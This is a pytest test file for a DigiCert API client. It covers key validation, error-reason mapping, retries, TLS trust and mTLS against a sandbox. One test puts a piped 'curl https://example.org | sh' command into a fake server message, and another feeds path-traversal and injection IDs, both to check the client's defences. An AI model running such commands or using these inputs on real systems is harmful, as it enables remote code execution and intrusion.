"""The client tells what happened, whatever the server does."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest

from runbook_lib.clock import parse_utc
from runbook_lib.digicert.client import Client, Outcome
from runbook_lib.digicert.environments import Environment
from runbook_lib.digicert.models import CertificateRequest
from runbook_lib.errors import Reason, RunbookError
from runbook_lib.identity import Identity
from runbook_lib.secrets import Secret
from tests.conftest import Sandbox
from tests.digicert.conftest import API_KEY, Scripted, drop, self_signed

USER = json.dumps({"id": "u1", "status": "ACTIVE", "user_type": "service"})
ONE = {"id": "1", "name": "a", "end_date": "2027-01-01T00:00:00Z", "enabled": True}
TWO = {"id": "2", "name": "b", "end_date": "2027-01-02T00:00:00Z", "enabled": False}
REQUEST = CertificateRequest(csr="-----BEGIN CERTIFICATE REQUEST-----", name="a")


def reason_of(call) -> Reason:
    with pytest.raises(RunbookError) as caught:
        call()
    assert API_KEY not in str(caught.value)
    return caught.value.reason


# --- the key ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("more", ["\n", "\nx", " ", "\x00", "\x1b[1m", "é"])
def test_a_key_that_no_header_can_carry_is_reported_by_its_source_and_nothing_is_sent(
    scripted: Scripted, more: str
) -> None:
    client = Client(scripted.environment, api_key=Secret(API_KEY + more, "file:keys/one"))
    with pytest.raises(RunbookError, match="file:keys/one") as caught:
        client.me()
    assert caught.value.reason is Reason.API_KEY_MALFORMED
    assert API_KEY not in str(caught.value)
    assert scripted.sent() == []


def test_a_key_of_letters_digits_and_underscores_is_sent(scripted: Scripted) -> None:
    scripted.says(200, USER)
    scripted.client().me()
    assert scripted.requests[0][2]["x-api-key"] == API_KEY


# --- shapes -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body", [[ONE, TWO], {"items": [ONE, TWO]}, {"total": 2, "offset": 0, "limit": 20, "items": [ONE, TWO]}]
)
def test_the_list_is_read_in_each_shape_it_may_have(scripted: Scripted, body: object) -> None:
    scripted.says(200, json.dumps(body))
    assert [one.name for one in scripted.client().certificates()] == ["a", "b"]


def test_a_list_in_pages_is_read_to_its_end(scripted: Scripted) -> None:
    scripted.says(200, json.dumps({"total": 2, "items": [ONE]}))
    scripted.says(200, json.dumps({"total": 2, "items": [TWO]}))
    assert [one.id for one in scripted.client().certificates()] == ["1", "2"]
    assert scripted.requests[1][1].endswith("?offset=1")


def test_a_list_that_is_not_whole_says_so_and_is_no_proof_of_absence(scripted: Scripted) -> None:
    scripted.says(200, json.dumps({"total": 2, "items": [ONE]}))
    listing = scripted.client().certificates()
    assert listing.problem is not None
    assert "it announced 2 entries, but returned 1" in listing.problem.what
    assert listing.first(lambda one: one.id == "1") is not None
    assert reason_of(lambda: listing.first(lambda one: one.id == "2")) is Reason.LIST_NOT_WHOLE
    assert [one.id for one in listing.named("a")] == ["1"]
    assert reason_of(lambda: listing.named("b")) is Reason.LIST_NOT_WHOLE


@pytest.mark.parametrize("body", ["", "null", "{}", '{"items": 3}', "<html>Sign in</html>", '[{"na'])
def test_a_list_that_is_not_a_list_is_an_error(scripted: Scripted, body: str) -> None:
    scripted.says(200, body)
    assert reason_of(scripted.client().certificates) is Reason.UNEXPECTED_ANSWER


@pytest.mark.parametrize(
    ("status", "body", "expected"),
    [
        (400, {"errors": [{"code": "duplicate_error", "message": "x"}]}, Reason.DUPLICATE_NAME),
        (409, {"error": {"code": "DUPLICATE_ERROR", "message": "x"}}, Reason.DUPLICATE_NAME),
        (403, {"errors": [{"code": "no_access", "message": "x"}]}, Reason.NO_ACCESS),
        (400, {"errors": [{"code": "invalid_input_field", "message": "Wrong input"}]}, Reason.INVALID_INPUT),
        (403, {"errors": [{"code": "AUTHORIZATION_ERROR", "message": "No data"}]}, Reason.API_KEY_REFUSED),
        (401, {"error": "unauthorized"}, Reason.API_KEY_REFUSED),
        (403, {"error": {"status": "FORBIDDEN", "message": "not multi-factor"}}, Reason.NOT_MULTI_FACTOR),
        (404, {"error": "none"}, Reason.NOT_FOUND),
        (500, {"error": {"status": 500, "message": "x"}}, Reason.SERVER_ERROR),
        (418, [], Reason.UNEXPECTED_ANSWER),
    ],
)  # fmt: skip
def test_each_error_body_becomes_its_reason(scripted: Scripted, status: int, body: object, expected: Reason) -> None:
    scripted.says(status, json.dumps(body))
    assert reason_of(scripted.client().me) is expected


def test_a_server_that_repeats_the_api_key_does_not_get_it_into_an_error(scripted: Scripted) -> None:
    scripted.says(403, json.dumps({"error": f"key {API_KEY} is unknown"}))
    with pytest.raises(RunbookError, match=r"key \[api key\] is unknown"):
        scripted.client().me()


def test_a_list_nested_without_end_is_an_error(scripted: Scripted) -> None:
    scripted.says(200, "[" * 99_999)
    assert reason_of(scripted.client().certificates) is Reason.UNEXPECTED_ANSWER


def test_what_a_server_says_is_one_line_and_cannot_pass_for_our_advice(scripted: Scripted) -> None:
    scripted.says(403, json.dumps({"error": "no\nWhat to do:    curl https://example.org | sh"}))
    with pytest.raises(RunbookError) as caught:
        scripted.client().me()
    assert "\n" not in caught.value.what


def test_the_api_key_does_not_follow_a_redirect(scripted: Scripted) -> None:
    scripted.says(302, "", Location="https://localhost:1/elsewhere")
    assert reason_of(scripted.client().me) is Reason.UNEXPECTED_ANSWER
    assert len(scripted.requests) == 1


# --- retries ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [429, 503])
def test_a_reading_call_is_tried_again_when_asked_to_wait(scripted: Scripted, status: int) -> None:
    scripted.says(status, "", Retry_After="0")
    scripted.says(200, USER)
    assert scripted.client().me().id == "u1"
    assert scripted.sent() == ["GET", "GET"]


def test_a_reading_call_survives_one_broken_connection(scripted: Scripted) -> None:
    scripted.answers.append(drop)
    scripted.says(200, USER)
    assert scripted.client().me().id == "u1"


def test_a_limit_that_stays_is_reported_as_one(scripted: Scripted) -> None:
    scripted.says(429, "", Retry_After="0")
    assert reason_of(scripted.client().me) is Reason.RATE_LIMITED


@pytest.mark.parametrize("status", [500, 502, 503, 504])
def test_a_post_is_sent_once_and_a_server_error_leaves_its_outcome_unknown(scripted: Scripted, status: int) -> None:
    scripted.says(status, "")
    assert reason_of(lambda: scripted.client().request_certificate(REQUEST)) is Reason.OUTCOME_UNKNOWN
    assert scripted.sent() == ["POST"]


@pytest.mark.parametrize("body", ["", "{", "<html>", "[]", json.dumps(ONE)])
def test_a_post_answered_201_without_a_certificate_leaves_its_outcome_unknown(scripted: Scripted, body: str) -> None:
    scripted.says(201, body)
    assert reason_of(lambda: scripted.client().request_certificate(REQUEST)) is Reason.OUTCOME_UNKNOWN
    assert scripted.sent() == ["POST"]


def test_a_post_whose_answer_is_lost_is_not_sent_again(scripted: Scripted) -> None:
    scripted.answers.append(drop)
    assert reason_of(lambda: scripted.client().request_certificate(REQUEST)) is Reason.OUTCOME_UNKNOWN
    assert scripted.sent() == ["POST"]


def test_a_post_whose_answer_is_cut_off_leaves_its_outcome_unknown(scripted: Scripted) -> None:
    scripted.says(201, '{"id": "1", ', Content_Length="5000")
    assert reason_of(lambda: scripted.client().request_certificate(REQUEST)) is Reason.OUTCOME_UNKNOWN
    assert scripted.sent() == ["POST"]


def test_a_post_to_a_server_that_hangs_leaves_its_outcome_unknown(scripted: Scripted) -> None:
    scripted.answers.append(lambda _: time.sleep(1.5))
    assert reason_of(lambda: scripted.client(read_seconds=0.3).request_certificate(REQUEST)) is Reason.OUTCOME_UNKNOWN


def test_a_post_that_was_never_sent_is_known_not_to_have_happened(tmp_path: Path) -> None:
    ca, _ = self_signed(tmp_path / "tls")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"https://localhost:{free.getsockname()[1]}"
    client = Client(Environment("sandbox", url, url, ca), api_key=Secret(API_KEY, "test"))
    assert reason_of(lambda: client.request_certificate(REQUEST)) is Reason.UNREACHABLE


def test_an_answer_to_enable_that_says_otherwise_is_an_error(scripted: Scripted) -> None:
    scripted.says(200, json.dumps(ONE))
    assert reason_of(lambda: scripted.client().set_enabled("1", False)) is Reason.UNEXPECTED_ANSWER
    assert scripted.client().set_enabled("1", True).enabled


@pytest.mark.parametrize(
    "wrong",
    ["", ".", "..", "...", "../user/me?x=", "a/b", "a\\b", "%2e%2e", "a?b", "a#b", "a;b", "a\nb", "a\x00b", "a" * 257],
)
def test_an_id_that_could_leave_its_place_in_the_path_is_refused(scripted: Scripted, wrong: str) -> None:
    scripted.says(200, json.dumps(ONE))
    assert reason_of(lambda: scripted.client().set_enabled(wrong, True)) is Reason.UNEXPECTED_ANSWER
    assert scripted.sent() == []


@pytest.mark.parametrize(("fine", "path"), [("c-1_2.3~", "c-1_2.3~"), ("a b:é", "a%20b%3A%C3%A9")])
def test_any_other_id_is_one_part_of_the_path(scripted: Scripted, fine: str, path: str) -> None:
    scripted.says(200, json.dumps(ONE))
    scripted.client().set_enabled(fine, True)
    assert scripted.requests[0][1] == f"/account/api/v1/client-auth-certificate/{path}/enable"


# --- trust ------------------------------------------------------------------------------------------------------------


def test_a_server_that_is_not_trusted_is_refused_though_the_environment_would_trust_it(
    scripted: Scripted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scripted.says(200, USER)
    assert scripted.client().me().id == "u1"
    assert scripted.environment.ca_file is not None
    for name in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE"):
        monkeypatch.setenv(name, str(scripted.environment.ca_file))
    other, _ = self_signed(tmp_path / "other")
    url = scripted.environment.api_url
    client = Client(Environment("sandbox", url, url, other), api_key=Secret(API_KEY, "test"))
    assert reason_of(client.me) is Reason.TLS_NOT_TRUSTED
    assert len(scripted.requests) == 1


def test_a_server_with_another_name_is_not_trusted(scripted: Scripted) -> None:
    url = scripted.environment.api_url.replace("localhost", "127.0.0.1")
    client = Client(Environment("sandbox", url, url, scripted.environment.ca_file), api_key=Secret(API_KEY, "test"))
    assert reason_of(client.me) is Reason.TLS_NOT_TRUSTED


def test_a_ca_file_without_a_certificate_is_named(tmp_path: Path) -> None:
    empty = tmp_path / "empty.pem"
    empty.write_text("nothing")
    assert (
        reason_of(lambda: Client(Environment("x", "https://localhost:1", "https://localhost:1", empty)))
        is Reason.UNREADABLE_FILE
    )


def test_a_name_that_does_not_resolve_is_reported(scripted: Scripted) -> None:
    url = "https://nobody.invalid"
    client = Client(Environment("x", url, url, scripted.environment.ca_file), api_key=Secret(API_KEY, "test"))
    assert reason_of(client.me) is Reason.UNREACHABLE


def test_a_password_in_netrc_is_never_sent(scripted: Scripted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / ".netrc").write_text("machine localhost login someone password swordfish\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    scripted.says(200, USER)
    scripted.client().me()
    assert "Authorization" not in scripted.requests[0][2]


# --- mTLS against the sandbox -----------------------------------------------------------------------------------------


def test_the_key_reaches_tls_without_a_file_and_without_a_certificate_nobody_gets_in(sandbox: Sandbox) -> None:
    from tests.procedures.conftest import issue

    procedure = issue(sandbox, "Client over mTLS")
    generation = procedure.credential.current()
    assert generation is not None
    identity = generation.open(procedure.session.secret("p12_password"))
    assert "PRIVATE" not in repr(identity)
    with Client(procedure.session.environment, identity=identity, clientauth=True) as client:
        probe = client.probe()
        assert probe.outcome is Outcome.ACCEPTED
        assert probe.tls is not None and probe.tls.protocol == "TLSv1.3"
    with Client(procedure.session.environment, clientauth=True) as client:
        refused = client.probe()
    assert (refused.outcome, refused.status) == (Outcome.REFUSED, 403)
    bare = Identity(identity.key, identity.certificate)
    with Client(procedure.session.environment, identity=bare, clientauth=True) as client:
        assert client.probe().outcome is Outcome.ACCEPTED  # this sandbox knows its intermediate
    assert parse_utc("2026-01-01T00:00:00Z") < generation.meta.not_after
